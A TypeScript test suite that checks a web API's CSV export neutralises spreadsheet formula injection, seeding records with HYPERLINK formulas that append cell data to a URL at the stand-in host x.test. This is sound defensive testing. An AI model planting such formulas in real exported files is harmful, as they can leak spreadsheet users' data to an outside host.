// GET /v2/{collection}/export.csv never hands a spreadsheet a formula: a user, an object, a
// customer and an article whose text fields and tags (customers have none) each start with a formula character (= + - @
// | tab CR LF and the full-width ＝ ＋ － ＠ ｜) are exported, the CSV parsed, and every cell of
// every export checked: text starting so carries the apostrophe, numbers stay numbers.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { call, createTestApp, signup, type Tenant, type TestApp } from '../helpers/test-app.js';

let t: TestApp;
let company: Tenant;

const STARTS = ['=', '+', '-', '@', '|', '\t', '\r', '\n', '＝', '＋', '－', '＠', '｜'];
const DANGEROUS = /^[=+\-@|\t\r\n＝＋－＠｜]/u;
/** A formula after each start, numbered so that every value is told apart. */
const formula = (i: number) => `${STARTS[i % STARTS.length]}HYPERLINK("http://x.test/?"&A${i},"open")`;
let counter = 0;
const next = () => formula(counter++);
const tagList = () => STARTS.map((_, i) => formula(i));

/** RFC 4180 with `;`: quoted fields with doubled quotes, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted && char === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ';') {
      row.push(cell);
      cell = '';
    } else if (!quoted && char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += char;
    }
  }
  assert.equal(cell + row.join(''), '', 'the file ends with CRLF');
  return rows;
}

async function exported(collection: string): Promise<{ header: string[]; rows: string[][] }> {
  const res = await t.app.inject({ method: 'GET', url: `/v2/${collection}/export.csv`, headers: company.headers });
  assert.equal(res.statusCode, 200, res.body);
  const [header, ...rows] = parseCsv(res.body.replace(/^\uFEFF/, ''));
  return { header: header!, rows };
}

async function create(path: string, body: unknown) {
  const res = await call(t.app, 'POST', path, company.headers, body);
  assert.equal(res.status, 201, JSON.stringify(res.body));
}

before(async () => {
  t = await createTestApp();
  company = await signup(t.app, 'Formulas');
  await create('/v2/customers/', {
    name: next(),
    contactPerson: next(),
    address: { street: next(), city: next(), zip: '＝1+1' },
    buyerReference: next(),
    orderReferenceId: next(),
    debitorNumber: next(),
  });
  await create('/v2/objects/', {
    name: next(),
    address: { street: next(), city: next(), zip: '@A1', country: next() },
    description: next(),
    securityCode: next(),
    key: next(),
    tags: tagList(),
  });
  await create('/v2/articles/', { name: next(), description: next(), unit: next(), price: -12.5, tags: tagList() });
  await create('/v2/users/', {
    id: `formula-${Date.now()}`,
    password: 'correct-horse-battery',
    general: { firstName: next(), lastName: next(), description: next() },
    tags: tagList(),
  });
});
after(() => t?.close());

describe('GET /v2/{collection}/export.csv: formulas', () => {
  for (const collection of ['customers', 'objects', 'articles', 'users']) {
    test(`${collection}: no cell starts a formula; every formula written is kept, behind an apostrophe`, async () => {
      const { header, rows } = await exported(collection);
      let guarded = 0;
      for (const row of rows) {
        assert.equal(row.length, header.length);
        row.forEach((cell, i) => {
          const column = header[i]!;
          if (/^-?\d+(,\d+)?$/.test(cell)) return; // a number column's value (number, price)
          assert.doesNotMatch(cell, DANGEROUS, `${collection}.${column}: ${JSON.stringify(cell)}`);
          if (cell.startsWith("'")) guarded += 1;
          if (column === 'tags' && cell !== '') {
            // The list: each item guarded, so a cell split at | has no dangerous piece either.
            const items = cell.split(' | ');
            assert.equal(items.length, STARTS.length, cell);
            for (const [k, item] of items.entries()) assert.equal(item, `'${formula(k)}`);
          }
        });
      }
      assert.ok(guarded >= 2, `${collection}: ${guarded} guarded cells`);
    });
  }

  test("a negative number stays a number: the article's price -12,50", async () => {
    const { header, rows } = await exported('articles');
    const price = rows.map((row) => row[header.indexOf('price')]);
    assert.deepEqual(price, ['-12,5']);
  });
});
